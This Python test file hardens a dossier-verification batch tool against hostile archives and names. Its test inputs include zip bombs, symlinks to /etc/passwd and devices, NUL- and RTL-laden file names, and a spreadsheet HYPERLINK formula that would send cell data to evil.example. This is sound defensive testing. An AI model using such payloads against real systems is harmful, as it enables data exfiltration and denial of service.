"""The batch runner and the command line against hostile archives and misuse: zip
totals, symbolic links, GBK names, special files, the output folder, worker counts,
page limits. Fast: no OCR, few processes."""
from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from verify import cli
from verify.run import batch
from verify.run.batch import BatchOptions, ZipLimits, find_dossiers, run_batch
from verify.run.pipeline import Settings, dossier_files

import hostile_build as build
import hostile_checks

YAML = "name: 张伟\nunit: 抚顺市生态环境监测站\n"


# ---------------------------------------------------------------- zip totals


def test_many_members_under_the_member_limit_are_refused_by_the_archive_totals(tmp_path):
    """470 members of 8 MiB (3.76 GB from a few MB): each member passes the member
    checks; the archive's total size and total ratio do not."""
    bomb = build.zip_of_zeros(tmp_path / "bomb.zip", members=470, member_bytes=8 << 20)
    assert bomb.stat().st_size < 10 << 20
    with pytest.raises(batch.UnsafeArchive, match="解压后过大|压缩比异常"):
        batch.extract_zip(bomb, tmp_path / "x")
    assert not any((tmp_path / "x").rglob("*.bin")), "nothing was written"
    # under the total size, over the total ratio
    small = build.zip_of_zeros(tmp_path / "small.zip", members=20, member_bytes=4 << 20)
    with pytest.raises(batch.UnsafeArchive, match="压缩比异常"):
        batch.extract_zip(small, tmp_path / "y")


def test_the_scheduler_keeps_extracted_space_under_the_budget(tmp_path):
    """Two zips whose sum passes the in-flight budget are not extracted at once."""
    arch = tmp_path / "archive"
    for key in ("a", "b"):
        src = tmp_path / "src" / key
        src.mkdir(parents=True)
        (src / "applicant.yaml").write_text(YAML, encoding="utf-8")
        (src / "SLEEP").write_text("0.5")
        (src / "page.jpg").write_bytes(os.urandom(200_000))
        arch.mkdir(exist_ok=True)
        with zipfile.ZipFile(arch / f"{key}.zip", "w") as zf:
            for p in src.iterdir():
                zf.write(p, p.name)
    limits = ZipLimits(max_inflight_bytes=300_000)
    import hostile_checks

    log = tmp_path / "log"
    os.environ["HOSTILE_OVERLAP_LOG"] = str(log)
    try:
        outcome = run_batch(find_dossiers(arch), tmp_path / "out", Settings(),
                            BatchOptions(workers=2, page_timeout=30, progress="none", zip_limits=limits),
                            check=hostile_checks.logged_check)
    finally:
        del os.environ["HOSTILE_OVERLAP_LOG"]
    assert [r.verdict for r in outcome.rows] == ["pass", "pass"]
    spans = sorted(tuple(map(float, line.split()[1:])) for line in log.read_text().splitlines())
    assert spans[0][1] <= spans[1][0], f"the two checks overlapped: {spans}"


def test_gbk_names_without_the_utf8_flag_keep_their_chinese(tmp_path):
    zipped = build.gbk_zip(tmp_path / "gbk.zip", ["目录.jpg", "扫描件/证书.jpg", "applicant.yaml"])
    batch.extract_zip(zipped, tmp_path / "x")
    names = sorted(p.relative_to(tmp_path / "x").as_posix() for p in (tmp_path / "x").rglob("*") if p.is_file())
    assert names == ["applicant.yaml", "扫描件/证书.jpg", "目录.jpg"]


def test_links_and_special_files_in_a_zip_are_not_created_but_reported(tmp_path):
    zipped = build.zip_with_link(tmp_path / "link.zip", link_name="secret.pdf", target="/etc/passwd")
    skipped = []
    batch.extract_zip(zipped, tmp_path / "x", skipped=skipped)
    assert not (tmp_path / "x" / "secret.pdf").exists() and not (tmp_path / "x" / "secret.pdf").is_symlink()
    assert (tmp_path / "x" / "applicant.yaml").is_file() and [rel for rel, _ in skipped] == ["secret.pdf"]
    with batch.open_dossier(batch.DossierInput("link", zipped), tmp_path) as folder:
        files, odd = dossier_files(folder)
    assert files == [] and [(u.file, "未解压" in u.reason) for u in odd] == [("secret.pdf", True)]


def test_a_zip_member_whose_name_holds_a_nul_is_named_whole_and_not_extracted(tmp_path):
    """zipfile cuts a name at a NUL: a\\x00b.jpg was extracted as a file called 「a」 and
    reported as 不支持的文件类型（无扩展名）, a name the reviewer finds nowhere in the zip,
    and 证书.jpg\\x00.exe as 证书.jpg, a name other unzip tools do not show (hostile
    exploration 8). Each is named whole, escaped, and not extracted; the rest is read."""
    yaml = YAML.encode()
    zipped = build.write_zip(tmp_path / "nul.zip", [
        {"name": b"applicant.yaml", "data": yaml}, {"name": b"scan/a\x00b.jpg", "data": b"\xff\xd8\xff"},
        {"name": "证书.jpg\x00.exe".encode("gbk"), "data": b"\xff\xd8\xff"}])
    skipped = []
    batch.extract_zip(zipped, tmp_path / "x", skipped=skipped)
    names = sorted(p.relative_to(tmp_path / "x").as_posix() for p in (tmp_path / "x").rglob("*") if p.is_file())
    assert names == ["applicant.yaml"], names
    assert sorted(rel for rel, _ in skipped) == ["scan/a\\x00b.jpg", "证书.jpg\\x00.exe"], skipped
    with batch.open_dossier(batch.DossierInput("nul", zipped), tmp_path) as folder:
        files, odd = dossier_files(folder)
    assert files == [] and sorted((u.file, "空字符" in u.reason) for u in odd) == [
        ("scan/a\\x00b.jpg", True), ("证书.jpg\\x00.exe", True)]


def test_a_zip_entry_for_its_own_folder_or_of_no_name_costs_nothing_else(tmp_path):
    """An entry "/" or "./" (the folder the zip is extracted to) or a member of no name
    made the whole applicant an error row, 「路径 '/' 指向解压目录之外」 (hostile
    exploration 8). The folder entries are passed over, the nameless member is named as
    not extracted, and the rest is read; an absolute path is still refused."""
    yaml = YAML.encode()
    zipped = build.write_zip(tmp_path / "root.zip", [
        {"name": b"/", "data": b""}, {"name": b"./", "data": b""}, {"name": b"", "data": b"\xff\xd8\xff"},
        {"name": b"applicant.yaml", "data": yaml}, {"name": b"scan/a.jpg", "data": b"\xff\xd8\xff"}])
    skipped = []
    batch.extract_zip(zipped, tmp_path / "x", skipped=skipped)
    names = sorted(p.relative_to(tmp_path / "x").as_posix() for p in (tmp_path / "x").rglob("*") if p.is_file())
    assert names == ["applicant.yaml", "scan/a.jpg"] and [rel for rel, _ in skipped] == ["（无名称）"], skipped
    absolute = build.write_zip(tmp_path / "abs.zip", [{"name": b"applicant.yaml", "data": yaml},
                                                      {"name": b"/etc/a.jpg", "data": b"\xff\xd8\xff"}])
    with pytest.raises(batch.UnsafeArchive, match="指向解压目录之外"):
        batch.extract_zip(absolute, tmp_path / "y")


# ---------------------------------------------------------------- links and special files


def test_a_symlink_loop_and_broken_links_in_the_archive_are_error_rows(tmp_path):
    arch = tmp_path / "archive"
    (arch / "zhangwei").mkdir(parents=True)
    (arch / "zhangwei" / "applicant.yaml").write_text(YAML, encoding="utf-8")
    os.symlink("loop", arch / "loop")
    os.symlink(tmp_path / "missing", arch / "broken")
    os.symlink(arch, arch / "self")
    os.symlink(arch / "zhangwei", arch / "twin")
    found = {d.key: d for d in find_dossiers(arch)}
    assert sorted(found) == ["broken", "loop", "self", "twin", "zhangwei"]
    assert found["zhangwei"].error is None
    for key in ("broken", "loop", "self", "twin"):
        assert found[key].error and "符号链接" in found[key].error


def test_links_fifos_and_devices_in_a_dossier_are_reported_not_read(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.pdf").write_bytes(b"%PDF-1.4 outside")
    dossier = tmp_path / "zhangwei"
    (dossier / "扫描件").mkdir(parents=True)
    (dossier / "扫描件" / "ok.jpg").write_bytes(b"\xff\xd8\xff")
    os.symlink(outside / "secret.pdf", dossier / "扫描件" / "证书.pdf")
    os.symlink(outside, dossier / "more")
    os.mkfifo(dossier / "fifo.jpg")
    files, odd = dossier_files(dossier)
    assert [p.name for p in files] == ["ok.jpg"]
    reasons = {u.file: u.reason for u in odd}
    assert set(reasons) == {"扫描件/证书.pdf", "more", "fifo.jpg"}
    assert "符号链接" in reasons["扫描件/证书.pdf"] and "符号链接" in reasons["more"]
    assert "不是普通文件" in reasons["fifo.jpg"]
    assert batch.count_pages(dossier) == 1, "counting pages does not open the FIFO either"


def test_a_fifo_or_a_device_named_zip_in_the_archive_root_is_an_error_row(tmp_path):
    """A FIFO or a link to a device named like an applicant's zip was dropped with no row:
    the applicant was silently missing from the summary (hostile exploration 8)."""
    arch = tmp_path / "archive"
    (arch / "ok").mkdir(parents=True)
    (arch / "ok" / "applicant.yaml").write_text(YAML, encoding="utf-8")
    os.mkfifo(arch / "王芳.zip")
    os.symlink("/dev/zero", arch / "李强.zip")
    os.symlink("/dev/null", arch / "赵磊.rar")
    (arch / "notes.txt").write_text("x", encoding="utf-8")  # other files are still ignored
    found = {d.key: d for d in find_dossiers(arch)}
    assert sorted(found) == ["ok", "李强.zip", "王芳.zip", "赵磊.rar"], sorted(found)
    for key in ("李强.zip", "王芳.zip", "赵磊.rar"):
        assert found[key].error == f"{key}：不是普通文件（管道、设备等特殊文件），未读取，请放入申报材料本身"
    assert found["ok"].error is None


def test_a_fifo_named_jpg_is_refused_by_the_page_reader_without_blocking(tmp_path):
    from ocr.errors import UnsupportedFile
    from ocr.sources import iter_pages

    os.mkfifo(tmp_path / "page.jpg")
    with pytest.raises(UnsupportedFile, match="不是普通文件"):
        list(iter_pages(tmp_path / "page.jpg"))


# ---------------------------------------------------------------- the output folder


def _archive(tmp_path: Path) -> Path:
    arch = tmp_path / "archive"
    (arch / "zhangwei").mkdir(parents=True)
    (arch / "zhangwei" / "applicant.yaml").write_text(YAML, encoding="utf-8")
    return arch


def test_an_output_folder_that_cannot_be_written_exits_2_before_any_work(tmp_path, capsys):
    arch = _archive(tmp_path)
    (tmp_path / "file").write_text("x")
    assert cli.main(["batch", str(arch), "-o", str(tmp_path / "file"), "-q"]) == 2
    assert "不是文件夹" in capsys.readouterr().err
    assert cli.main(["batch", str(arch), "-o", str(tmp_path / "file" / "out"), "-q"]) == 2
    assert "输出目录" in capsys.readouterr().err
    if os.geteuid() != 0:  # root writes into a read-only folder anyway
        ro = tmp_path / "ro"
        ro.mkdir(mode=0o555)
        assert cli.main(["batch", str(arch), "-o", str(ro), "-q"]) == 2
        assert "不可写" in capsys.readouterr().err


def test_two_runs_into_one_output_folder_are_refused(tmp_path, capsys):
    arch = _archive(tmp_path)
    out = tmp_path / "out"
    holder = subprocess.Popen([sys.executable, "-c", (
        "import sys; from pathlib import Path; sys.path.insert(0, sys.argv[2])\n"
        "from verify.run.batch import output_folder\n"
        "with output_folder(Path(sys.argv[1])):\n"
        "    print('held', flush=True); sys.stdin.read()\n"), str(out), str(Path(__file__).resolve().parents[2])],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout.readline().strip() == "held"
        assert cli.main(["batch", str(arch), "-o", str(out), "-q"]) == 2
        assert "另一个核验任务" in capsys.readouterr().err
    finally:
        holder.stdin.close()
        holder.wait(10)
    assert not (out / batch.OUT_LOCK).exists(), "the lock file goes with its holder"


def test_a_fifo_or_a_link_planted_as_a_previous_report_neither_holds_nor_fools_the_rerun(tmp_path):
    """The rerun reads OUT/<key>/report.json to decide whether to reuse it: a FIFO there held
    the batch for good (killed at 60 s), and a link to a report elsewhere was read as the
    applicant's own (hostile exploration 13). Neither is read; both applicants are checked."""
    arch = tmp_path / "archive"
    for key in ("A1", "A2"):
        (arch / key).mkdir(parents=True)
        (arch / key / "applicant.yaml").write_text(YAML, encoding="utf-8")
    out = tmp_path / "out"
    (out / "A1").mkdir(parents=True)
    os.mkfifo(out / "A1" / "report.json")
    os.mkfifo(out / "A1" / "report.html")
    forged = tmp_path / "forged"
    forged.mkdir()
    (forged / "report.json").write_text(json.dumps({"verdict": "pass", "findings": [], "counts": {}}), encoding="utf-8")
    (forged / "report.html").write_text("<html></html>", encoding="utf-8")
    (out / "A2").mkdir()
    for name in ("report.json", "report.html"):
        os.symlink(forged / name, out / "A2" / name)
    done = subprocess.run([sys.executable, "-m", "verify", "batch", str(arch), "-o", str(out), "-q", "--workers", "1",
                           "--no-cache"], env=dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parents[2])),
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    for key in ("A1", "A2"):
        report = out / key / "report.json"
        assert report.is_file() and not report.is_symlink()
        assert json.loads(report.read_text(encoding="utf-8"))["verdict"] != "pass"
    assert json.loads((forged / "report.json").read_text(encoding="utf-8"))["verdict"] == "pass", "never written through"


def test_a_dossier_given_as_dot_dot_is_named_by_its_real_folder(tmp_path, monkeypatch):
    arch = _archive(tmp_path)
    inner = arch / "zhangwei" / "扫描件"
    inner.mkdir()
    monkeypatch.chdir(inner)
    out = tmp_path / "out"
    assert batch.dossier_key(Path("..")) == "zhangwei"
    from verify.run.batch import as_dossier

    assert as_dossier(Path("..")).key == "zhangwei"
    assert batch.unsafe_key("..") and batch.unsafe_key("a/../../b")
    rows = run_batch([batch.DossierInput("../escape", arch / "zhangwei")], out, Settings(),
                     BatchOptions(workers=1, progress="none"))
    assert rows.rows[0].verdict == "error" and not (tmp_path / "escape").exists()


# ---------------------------------------------------------------- command-line limits


def test_workers_are_capped_by_cores_and_memory():
    assert batch.worker_count(64, 100, cores=2, memory=64 << 30) == 2
    assert batch.worker_count(64, 100, cores=64, memory=4 << 30) == 4
    assert batch.worker_count(1, 100, cores=64, memory=None) == 1


@pytest.mark.parametrize("value", ["0", "401", "-1", "x"])
def test_max_pages_outside_1_to_400_is_a_usage_error(value, capsys):
    with pytest.raises(SystemExit) as exc:
        cli.main(["batch", "x", "-o", "y", "--max-pages", value])
    assert exc.value.code == 2
    assert "--max-pages" in capsys.readouterr().err


def test_the_per_file_page_limit_is_the_dossier_limit():
    from ocr.pipeline import OcrSettings
    from ocr.sources import MAX_PAGES

    assert Settings().max_pages == MAX_PAGES == OcrSettings().max_pages == 400
    args = cli.build_parser().parse_args(["batch", "x", "-o", "y"])
    assert cli._settings(args).max_pages == MAX_PAGES


# ---------------------------------------------------------------- spreadsheet formula injection


def test_a_formula_in_a_name_or_key_is_text_in_both_summaries(tmp_path):
    import csv
    import io

    from openpyxl import load_workbook

    from verify.report.summary import SummaryRow, write_summary

    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    rows = [SummaryRow("+cmd", evil, "error", error="@SUM(1+1)"), SummaryRow("a", "－1+2", "pass")]
    write_summary(rows, tmp_path)
    text = (tmp_path / "summary.csv").read_text(encoding="utf-8-sig")
    cells = [c for r in csv.reader(io.StringIO(text)) for c in r]
    assert not [c for c in cells if c and c[0] in "=+-@＝＋－＠"], cells
    assert "'" + evil in cells
    sheet = load_workbook(tmp_path / "summary.xlsx").active
    values = [c for r in sheet.iter_rows(min_row=2) for c in r]
    assert all(c.data_type != "f" for c in values)
    assert any(c.value == evil and c.data_type == "s" for c in values), "the name is kept, as text"


def test_folder_names_that_are_the_summarys_or_not_utf8_are_error_rows_and_the_batch_finishes(tmp_path):
    """A folder named summary.csv made OUT/summary.csv a folder and a name of bytes no
    UTF-8 name has could not be written: either killed the whole batch before its
    summary (probe alt11). A file so named inside a dossier is reported, the rest read."""
    arch = tmp_path / "archive"
    for key in ("summary.csv", "ok"):
        (arch / key).mkdir(parents=True)
        (arch / key / "applicant.yaml").write_text(YAML, encoding="utf-8")
    bad = os.fsencode(str(arch)) + b"/bad-\xff\xfe"
    os.mkdir(bad)
    with open(bad + b"/applicant.yaml", "w", encoding="utf-8") as fh:
        fh.write(YAML)
    with open(os.fsencode(str(arch / "ok")) + b"/\xff.jpg", "wb") as fh:
        fh.write(b"not a picture")
    out = tmp_path / "out"
    outcome = run_batch(find_dossiers(arch), out, Settings(), BatchOptions(workers=1, progress=False))
    rows = {r.key: r for r in outcome.rows}
    assert rows["summary.csv"].verdict == "error" and "与汇总表同名" in rows["summary.csv"].error
    assert rows["bad-\\xff\\xfe"].verdict == "error"
    assert (out / "summary.csv").is_file() and (out / "summary.xlsx").is_file()
    report = (out / "ok" / "report.json").read_text(encoding="utf-8")
    assert "\\\\xff.jpg" in report and "文件名含无法识别的字符编码" in report


def test_a_zip_holding_one_member_twice_is_refused(tmp_path):
    """Two applicant.yaml in one zip, 事业单位 and 企业: which one an unzip tool shows is
    the tool's choice (probe alt11: the second was used, silently)."""
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of the duplicate it is told to write
        with zipfile.ZipFile(tmp_path / "a.zip", "w") as zf:
            zf.writestr("a/applicant.yaml", YAML + "unit_kind: institution\n")
            zf.writestr("a/applicant.yaml", YAML + "unit_kind: 企业\n")
    with pytest.raises(batch.UnsafeArchive, match="出现不止一次"):
        batch.extract_zip(tmp_path / "a.zip", tmp_path / "x")


def test_a_note_of_skipped_members_handed_in_with_a_folder_is_not_believed(tmp_path):
    """Probe alt23 F19: a .verify-skipped-members.json planted in a folder dossier made
    1,000 false findings; only the note this process's extraction wrote counts."""
    folder = tmp_path / "A1"
    folder.mkdir()
    (folder / "applicant.yaml").write_text("name: 张伟\nunit: 抚顺市生态环境监测站\n", encoding="utf-8")
    for note in (["x.pdf"] * 3, {"token": "guess", "members": ["x.pdf"]}):
        (folder / batch.SKIPPED_MEMBERS).write_text(json.dumps(note), encoding="utf-8")
        assert dossier_files(folder) == ([], [])


def test_a_folder_that_cannot_be_opened_is_named_with_its_reason(tmp_path, monkeypatch):
    """A locked sub-folder was skipped without a word, and a locked applicant folder gave an
    English PermissionError row with its absolute path, or a traceback from ``verify check``
    (hostile exploration 3; chmod 000 does not stop root, so the refusal is simulated)."""
    import errno

    from verify.applicant import MetadataError, find_metadata, load_applicant
    from verify.run.pipeline import dossier_files

    folder = tmp_path / "A1"
    (folder / "锁定目录").mkdir(parents=True)
    (folder / "p1.jpg").write_bytes(b"\xff\xd8")
    real_scandir = os.scandir

    def scandir(path="."):
        if os.path.basename(os.fspath(path)) == "锁定目录":
            raise PermissionError(errno.EACCES, "Permission denied", os.fspath(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    files, odd = dossier_files(folder)
    assert [p.name for p in files] == ["p1.jpg"]
    assert [(u.file, u.reason) for u in odd] == [("锁定目录", "文件夹无法打开（没有读取权限），其中的材料未核验")]

    def exists(self, *a, **kw):
        raise PermissionError(errno.EACCES, "Permission denied", str(self))

    monkeypatch.setattr(Path, "exists", exists)
    with pytest.raises(MetadataError) as e:
        load_applicant(folder)
    assert str(e.value) == "A1：申报材料文件夹无法打开（没有读取权限），无法核验"
    assert find_metadata(folder) is None


# ---------------------------------------------------------------- what a file carries unread


def test_a_pdfs_attached_files_are_named_as_unread(tmp_path):
    """A one-page cover, 详见附件, carrying the title certificate attached: the cover alone
    was checked, and the certificate was "not found" without a word of why (hostile
    exploration 4, P4)."""
    import pypdfium2 as pdfium

    from verify.run.pipeline import check_dossier

    folder = tmp_path / "王强"
    folder.mkdir()
    (folder / "applicant.yaml").write_text("name: 王强\nunit: 某单位\n", encoding="utf-8")
    doc = pdfium.PdfDocument.new()
    doc.new_page(595, 842)
    doc.new_attachment("职称证书.pdf").set_data(b"%PDF-1.4\n")
    doc.save(folder / "材料汇编.pdf")
    result = check_dossier(folder, "王强", Settings())
    notes = [(u.file, u.reason) for u in result.unreadable]
    assert len(notes) == 1 and notes[0][0] == "材料汇编.pdf" and "职称证书.pdf" in notes[0][1] and "附件" in notes[0][1], notes
    assert any(f.rule == "dossier.readable" and f.status == "review" and "职称证书.pdf" in f.message for f in result.findings)


def test_control_characters_in_any_cell_are_escaped_in_both_workbooks(tmp_path):
    """One ESC in a name made openpyxl refuse the whole workbook (hostile exploration 5, P1);
    the desk's export writes its own workbook and had no guard either."""
    from openpyxl import load_workbook

    from verify.desk import export
    from verify.report.summary import SummaryRow, write_summary

    assert write_summary([SummaryRow("a", "王\x1b五", "error", error="坏\x07名\x00.zip")], tmp_path) == []
    cells = [c.value for r in load_workbook(tmp_path / "summary.xlsx").active.iter_rows(min_row=2) for c in r]
    assert "王\\x1b五" in cells and "坏\\x07名\\x00.zip" in cells
    row = {"key": "a", "name": "王\x1b五", "unit": "单位", "verdict": "fail", "decision": "reject",
           "decision_reason": "理由\x08", "decision_by": "李", "decision_at": "2026-12-05T10:00:00",
           "failing": [("identity.name", "姓名\x1b不符")], "link": "http://desk/a"}
    book = load_workbook(io.BytesIO(export.xlsx_bytes([row]))).active
    cells = [c.value for r in book.iter_rows(min_row=2) for c in r]
    assert "王\\x1b五" in cells and "理由\\x08" in cells and not any("\x1b" in str(v) for v in cells)


def test_names_starting_with_a_dot_are_read_and_only_the_systems_litter_is_skipped(tmp_path):
    """.张伟/ (a whole applicant), .材料6.jpg, .扫描件/ and a zip member .证书.jpg were
    dropped without a word (hostile exploration 5, P5); .DS_Store, ._* AppleDouble files,
    __MACOSX, Thumbs.db and desktop.ini still are."""
    arch = tmp_path / "archive"
    for key in ("a", ".张伟"):
        (arch / key).mkdir(parents=True)
        (arch / key / "applicant.yaml").write_text(YAML, encoding="utf-8")
    (arch / ".DS_Store").write_bytes(b"x")
    (arch / "__MACOSX").mkdir()
    b = arch / "b"
    (b / ".扫描件").mkdir(parents=True)
    (b / "applicant.yaml").write_text(YAML, encoding="utf-8")
    for rel in (".材料6.jpg", ".扫描件/评定.jpg", "._材料6.jpg", ".DS_Store", "Thumbs.db", ".备注.txt"):
        (b / rel).write_bytes(b"\xff\xd8\xff" + b"0" * 100)
    assert [d.key for d in find_dossiers(arch)] == [".张伟", "a", "b"]
    files, odd = dossier_files(b)
    assert sorted(p.relative_to(b).as_posix() for p in files) == [".扫描件/评定.jpg", ".材料6.jpg"]
    assert [u.file for u in odd] == [".备注.txt"], "a hidden file that is no page is reported like any other"

    zipped = tmp_path / "c.zip"
    with zipfile.ZipFile(zipped, "w") as zf:
        zf.writestr("applicant.yaml", YAML)
        zf.writestr(".证书.jpg", b"x")
        zf.writestr("__MACOSX/._证书.jpg", b"x")
    batch.extract_zip(zipped, tmp_path / "c")
    assert sorted(p.name for p in (tmp_path / "c").iterdir()) == [".证书.jpg", "applicant.yaml"]


def test_folder_names_with_invisible_format_characters_are_error_rows_shown_escaped(tmp_path):
    """A right-to-left override made the folder \\u202e伟张 show as 张伟 in the summary,
    and a zero-width space made 张\\u200b伟 a second row reading 张伟 (hostile
    exploration 7): both are error rows, their keys shown with the character escaped."""
    arch = tmp_path / "archive"
    for key in ("\u202e伟张", "张\u200b伟", "张伟"):
        (arch / key).mkdir(parents=True)
        (arch / key / "applicant.yaml").write_text(YAML, encoding="utf-8")
    out = tmp_path / "out"
    outcome = run_batch(find_dossiers(arch), out, Settings(), BatchOptions(workers=1, progress=False))
    rows = {r.key: r for r in outcome.rows}
    assert rows["\\u202e伟张"].verdict == rows["张\\u200b伟"].verdict == "error", sorted(rows)
    assert "不可见字符" in rows["\\u202e伟张"].error
    assert rows["张伟"].verdict != "error"
    summary = (out / "summary.csv").read_text(encoding="utf-8-sig")
    assert "\u202e" not in summary and "\u200b" not in summary


def test_a_dossier_whose_metadata_is_misplaced_is_told_where_it_is(tmp_path):
    """A zip of two applicants' folders and an Applicant.YAML written on Windows were
    told only 缺少 applicant.yaml (hostile exploration 7): the error says what was found."""
    arch = tmp_path / "archive"
    arch.mkdir()
    with zipfile.ZipFile(arch / "两人.zip", "w") as zf:
        zf.writestr("张伟/applicant.yaml", YAML)
        zf.writestr("李娜/applicant.yaml", YAML.replace("张伟", "李娜"))
    (arch / "大写").mkdir()
    (arch / "大写" / "Applicant.YAML").write_text(YAML, encoding="utf-8")
    outcome = run_batch(find_dossiers(arch), tmp_path / "out", Settings(), BatchOptions(workers=1, progress=False))
    rows = {r.key: r for r in outcome.rows}
    assert rows["两人"].verdict == "error" and "子文件夹 张伟、李娜 中各有一份" in rows["两人"].error, rows["两人"].error
    assert rows["大写"].verdict == "error" and "Applicant.YAML 文件名大小写不符" in rows["大写"].error


def test_a_dossier_of_thousands_of_unreadable_files_has_a_report_json_of_bounded_size(tmp_path, monkeypatch):
    """report.json listed every unreadable file: 9.7 MB for 100,000 empty .jpg (hostile
    exploration 8). It lists the first 1000 and counts the rest, as the HTML lists 200;
    the counts the reviewer reads still cover every file."""
    from ocr.engines import _REGISTRY
    from verify.run.inputs import DossierInput
    from verify.run.task import DossierTask, check_task

    # the fake engine is registered in this process: taken back after (the doctest of ocr.engines lists them)
    monkeypatch.setitem(_REGISTRY, "counting", "ocr.testing:CountingEngine")
    folder = tmp_path / "A1"
    folder.mkdir()
    (folder / "applicant.yaml").write_text(YAML, encoding="utf-8")
    for n in range(3000):
        (folder / f"{n:05d}.jpg").write_bytes(b"")
    outcome = check_task(DossierTask(DossierInput("A1", folder), "f" * 16), Settings(engine="counting"),
                         check=hostile_checks.pipeline_with_fake_engine, tmp_root=tmp_path)
    assert outcome.row.verdict != "pass" and not outcome.row.error, outcome.row
    report = json.loads(outcome.files["report.json"])
    assert len(report["unreadable"]) == 1000 and report["unreadable"][-1]["file"] == "00999.jpg"
    assert report["unreadable_more"] == {"files": 2000, "cut": 0, "service": 0}
    assert len(outcome.files["report.json"]) < 400_000, len(outcome.files["report.json"])
    html = outcome.files["report.html"].decode("utf-8")
    assert "<b>3000</b><span>个文件无法读取</span>" in html and "另有 2800 个文件未列出" in html


def test_a_file_gone_or_unreadable_between_listing_and_reading_is_named_and_the_rest_read(tmp_path, monkeypatch):
    """A scan renamed or removed after the dossier was listed (a scanner still writing into
    the folder), and one the checking process may not read (chmod 000 does not stop root,
    so the refusal is simulated): each is a review naming the file and why, the other
    pages read (hostile exploration 13)."""
    import errno

    from PIL import Image

    import hostile_checks
    import ocr.sources
    from verify.applicant import load_applicant
    from verify.run import pipeline

    folder = tmp_path / "A1"
    folder.mkdir()
    (folder / "applicant.yaml").write_text(YAML, encoding="utf-8")
    for name in ("p1.jpg", "p2.jpg", "p3.jpg"):
        Image.new("RGB", (850, 1100), "white").save(folder / name)
    listed = pipeline.dossier_files

    def listed_then_renamed(root):
        files, odd = listed(root)
        os.rename(folder / "p2.jpg", folder / "p2.jpg.tmp")  # the scanner renames its file after the listing
        return files, odd

    def refusing_open(path, *args, **kwargs):
        if os.fspath(path).endswith("p3.jpg"):
            raise PermissionError(errno.EACCES, "Permission denied", os.fspath(path))
        return open(path, *args, **kwargs)

    monkeypatch.setattr(pipeline, "dossier_files", listed_then_renamed)
    monkeypatch.setattr(ocr.sources, "open", refusing_open, raising=False)
    result = hostile_checks.pipeline_with_fake_engine(folder, "A1", Settings(engine="counting", cache_path=None),
                                                      load_applicant(folder))
    reasons = {u.file: u.reason for u in result.unreadable}
    assert set(reasons) == {"p2.jpg", "p3.jpg"}, reasons
    assert "文件不存在" in reasons["p2.jpg"] and "没有读取权限" in reasons["p3.jpg"]
    assert [p.file for p in result.pages] == ["p1.jpg"]
    readable = [f for f in result.findings if f.rule == "dossier.readable"]
    assert {f.file for f in readable} == {"p2.jpg", "p3.jpg"} and all(f.status == "review" for f in readable)


def test_a_zip_member_exactly_at_the_folder_limit_is_extracted_and_one_past_it_refused(tmp_path):
    """The contract refuses a member nested *over* 64 folders; the guard refused 64 itself,
    saying 「64 层，上限 64 层」 (hostile exploration 13)."""
    from verify.run.zips import MAX_FOLDER_DEPTH, UnsafeArchive, extract_zip

    at_limit, past = tmp_path / "at.zip", tmp_path / "past.zip"
    for path, folders in ((at_limit, MAX_FOLDER_DEPTH), (past, MAX_FOLDER_DEPTH + 1)):
        with zipfile.ZipFile(path, "w") as zf:
            zf.writestr("A1/applicant.yaml", YAML)
            zf.writestr("A1/" + "d/" * (folders - 1) + "p.jpg", b"x")
    extract_zip(at_limit, tmp_path / "ok")
    assert (tmp_path / "ok" / "A1").joinpath(*["d"] * (MAX_FOLDER_DEPTH - 1), "p.jpg").is_file()
    with pytest.raises(UnsafeArchive, match=f"（{MAX_FOLDER_DEPTH + 1} 层，上限 {MAX_FOLDER_DEPTH} 层）"):
        extract_zip(past, tmp_path / "no")
